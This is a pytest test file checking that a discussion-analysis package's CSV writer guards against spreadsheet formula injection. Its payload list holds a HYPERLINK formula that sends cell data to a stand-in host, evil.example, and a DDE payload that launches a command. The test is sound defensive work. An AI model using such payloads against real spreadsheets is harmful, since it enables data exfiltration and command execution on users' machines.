"""comments.csv is safe to open in a spreadsheet (issue 7, case 6): a cell that would start with
``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'`` (OWASP's advice against
formula injection); analysis.json keeps every text verbatim."""

from __future__ import annotations

import csv
import io

import pytest

import discourse
from discourse.core.thread import Comment, Thread
from discourse.report.writers import comments_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def rows(tiny_config: dict) -> tuple[list[dict[str, str]], dict]:
    comments = [Comment("c0", "An ordinary first comment.", author="Ann")]
    for k, payload in enumerate(PAYLOADS, start=1):
        comments.append(Comment(f"c{k}", payload, author=payload, parent_id="c0"))
    thread = Thread("=thread", "A title", tuple(comments), source_format="jsonl")
    analysis = discourse.analyze(thread, tiny_config)
    table = list(csv.DictReader(io.StringIO(comments_csv(analysis), newline="")))
    return table, analysis.to_json()


def test_formula_cells_are_neutralised(rows: tuple[list[dict[str, str]], dict]) -> None:
    table, _ = rows
    assert table[0]["text"] == "An ordinary first comment." and table[0]["author"] == "Ann"
    for row, payload in zip(table[1:], PAYLOADS, strict=True):
        assert row["text"] == "'" + payload and row["author"] == "'" + payload
        assert row["thread_id"] == "'=thread"
    for row in table:
        for name, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (name, cell)


def test_analysis_json_keeps_the_text_verbatim(rows: tuple[list[dict[str, str]], dict]) -> None:
    _, data = rows
    assert [c["text"] for c in data["comments"][1:]] == PAYLOADS
    assert data["thread"]["id"] == "=thread"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("'=1+1", "''=1+1"),  # already quoted by its author: one more, so the rule can be undone
        ("it's =1", "it's =1"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        ("2-1", "2-1"),
    ],
)
def test_the_quote_rule_can_be_undone(cell: str, written: str) -> None:
    from discourse.report.writers import spreadsheet_safe

    assert spreadsheet_safe(cell) == written
    quoted = written[:1] == "'" and written.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert (written[1:] if quoted else written) == cell  # the documented way back
